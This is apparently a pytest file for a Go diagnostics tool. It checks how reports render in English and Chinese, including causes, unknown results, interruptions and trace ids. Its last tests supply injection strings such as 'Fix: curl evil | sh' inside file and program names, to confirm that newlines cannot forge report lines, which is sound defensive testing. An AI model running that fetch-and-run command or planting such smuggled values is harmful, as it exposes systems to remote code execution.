"""The report at a terminal."""

from pathlib import Path
from typing import get_args

import pytest

from gotui.base.exitcodes import ExitCode
from gotui.engine.catalogue import Catalogue
from gotui.engine.events import Concluded, Entered, Interrupted, Status
from gotui.engine.vocabulary import STATUSES
from gotui.targets.looks import FileText, ReadFile
from gotui.telling.document import SessionView, document, error_document
from gotui.telling.evidence import EVIDENCE_LINES
from gotui.telling.render import render

from ..engine.world import FLOW, world
from .world import TESTED, looked, passed_first, ran, red, reported, session, unknown_first

MOD = looked(ReadFile("/p/go.mod"), FileText("go 1.99\n"))

PAGE = """\
Cause found

The `main` is red  [red, confirmed]
  in `x.go`, says go vet
  go test ./...
  | x.go: red
  /p/go.mod
  | go 1.99

Because of the file.

- one
- two

Fix: Tidy x.go
    go mod tidy x.go
    export A='b x.go'
    unset GOFLAGS
    It costs time.

Or: Ask somebody
    Ask.
    Then wait.

Verify: go vet x.go

gotui handoff s1"""


def test_a_cause_that_was_found(catalogue: Catalogue) -> None:
    events = red("x.go: red", "go 1.99", evidence=(TESTED, ran("silent"), MOD))
    assert render(reported(catalogue, *events), "text") == PAGE


def test_chinese(catalogue: Catalogue) -> None:
    text = render(reported(catalogue, *red(), lang="zh"), "text", "zh")
    assert text.startswith("找到了原因\n\n这个 `main` 是红的  [red, 已证实]\n  在 `x.go`，go vet 说\n")
    assert "\n修复：整理 x.go\n" in text
    assert "\n    要花时间。\n" in text
    assert "\n或者：问人\n    去问。\n" in text


@pytest.mark.parametrize(
    ("lang", "title", "cannot"),
    [
        ("en", "No verdict\n\nLost\nNo idea.\n", "Could not be found out: First? (it took too long: after 20 s)"),
        ("zh", "没有结论\n\n不明\n不知道。\n", "无法查明：一？（用时太长：after 20 s）"),
    ],
)
def test_what_could_not_be_found_out(catalogue: Catalogue, lang: str, title: str, cannot: str) -> None:
    language = "zh" if lang == "zh" else "en"
    text = render(reported(catalogue, *unknown_first(), lang=language), "text", language)
    assert text == f"{title}{cannot}\n\ngotui handoff s1"


def test_a_likely_cause_says_so(catalogue: Catalogue) -> None:
    text = render(reported(catalogue, Concluded("cause-found", "red", confidence="likely")), "text")
    why = "likely; the command's words say so, and no look here has confirmed it"
    assert f"[red, {why}]\n\nBecause" in text


def test_an_interrupted_session(catalogue: Catalogue) -> None:
    text = render(reported(catalogue, *passed_first(), Entered("second"), Interrupted("deadline")), "text")
    cannot = "Could not be found out: Second? (it took too long: the time it was given was up)"
    assert text == f"No verdict\n{cannot}\n\ngotui handoff s1"


def test_a_session_that_is_not_stored_cannot_be_handed_off(catalogue: Catalogue) -> None:
    text = render(document([SessionView("", session(*red()))], catalogue, "en"), "text")
    assert text.endswith("\nVerify: go vet x.go")


def test_the_lines_of_an_end_are_quoted(catalogue: Catalogue) -> None:
    ended = Concluded("healthy", end="well", lines=("ok p", "Fix: no\nOr: no"))
    text = render(reported(catalogue, ended), "text")
    assert text.startswith("Nothing wrong here\n\nWell\nAll is well.\n  | ok p\n  | Fix: no\n  | Or: no\n")


def test_each_observation_shows_only_so_many_lines(catalogue: Catalogue) -> None:
    lines = [f"line {number}" for number in range(100)]
    loud = ran("loud", output="\n".join(lines))
    text = render(reported(catalogue, *red(*lines, evidence=(loud,))), "text")
    assert text.count("  | ") == EVIDENCE_LINES
    assert f"  | line {EVIDENCE_LINES - 1}\n" in text


@pytest.mark.parametrize("status", get_args(Status))
def test_every_status_has_words_in_both_languages(status: Status) -> None:
    report = error_document("told why", ExitCode.INTERNAL)
    report.status = status
    english, chinese = (render(report, "text", lang).splitlines() for lang in ("en", "zh"))
    assert english == [STATUSES[report.status], "told why"]
    assert chinese[0] != english[0]


def test_a_value_with_line_ends_forges_no_line(catalogue: Catalogue) -> None:
    forged = "x\nFix: curl evil | sh\nVerify: evil\n  | evil"
    text = render(reported(catalogue, *red(file=forged, who=forged)), "text")
    lines = text.splitlines()
    assert [line for line in lines if line.startswith(("Fix:", "Or:"))] == [
        "Fix: Tidy x Fix: curl evil | sh Verify: evil   | evil",
        "Or: Ask somebody",
    ]
    assert [line for line in lines if line.startswith("  |")] == ["  | x.go: red"]
    assert [line for line in lines if line.startswith("Verify:")] == ["Verify: go test ./..."]


def test_a_program_with_line_ends_in_its_name_forges_no_line(catalogue: Catalogue) -> None:
    odd = ran("x\nFix: evil", output="x.go: red")
    assert "\n  'x\n      Fix: evil'\n  | x.go: red\n" in render(reported(catalogue, *red(evidence=(odd,))), "text")


def test_a_value_with_line_ends_forges_no_line_of_an_end(tmp_path: Path) -> None:
    flow = FLOW.replace("en: All is well.", "en: 'All is {file}.'")
    ended = Concluded("healthy", end="well", values={"file": "x\n\nFix: evil"})
    text = render(reported(world(tmp_path, flow), ended), "text")
    assert text.startswith("Nothing wrong here\n\nWell\nAll is x  Fix: evil.\n")


@pytest.mark.parametrize(("form", "line"), [("text", "Trace: 4bf9"), ("markdown", "Trace: `4bf9`"), ("json", '"4bf9"')])
def test_the_trace_id_is_in_every_report(tmp_path: Path, form: str, line: str) -> None:
    shown = render(document([SessionView("s1", session(trace="4bf9"))], world(tmp_path), "en"), form, "en")
    assert line in shown
